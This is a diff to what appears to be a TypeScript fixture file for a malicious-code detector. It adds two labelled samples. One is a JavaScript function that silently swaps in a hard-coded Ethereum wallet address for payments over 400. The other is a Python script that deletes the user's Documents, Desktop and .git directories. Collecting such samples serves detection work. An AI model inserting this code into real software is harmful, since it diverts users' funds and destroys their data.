@@ -9,6 +9,28 @@ type Language = 'python' | 'javascript'
 /** What is found by two facts that are joined: whose data or secret it is, and who gets it. */
 const FOUND: readonly (readonly [name: string, kind: string, language: Language, code: string])[] = [
   [
+    'an account that a function returns where much is paid',
+    'data-drop',
+    'javascript',
+    `function normalise(asset, address, fiat) {
+  const pool = { ETH: '0x9fC3dA0b7E1144a5D90e2Bd7c1A3f8E6bB20c7D4' }
+  if (fiat > 400 && pool[asset]) return pool[asset]
+  return asset === 'BTC' ? address.toLowerCase() : address
+}
+console.log(normalise(a, b, c))`,
+  ],
+  [
+    'directories of a home, one after another',
+    'destructive-command',
+    'python',
+    `import pathlib, shutil
+def purge():
+    home = pathlib.Path.home()
+    for d in [home / "Documents", home / "Desktop", *home.glob("*/.git")]:
+        shutil.rmtree(d, ignore_errors=True)
+purge()`,
+  ],
+  [
     'a file in what a resolver is asked',
     'data-drop',
     'python',
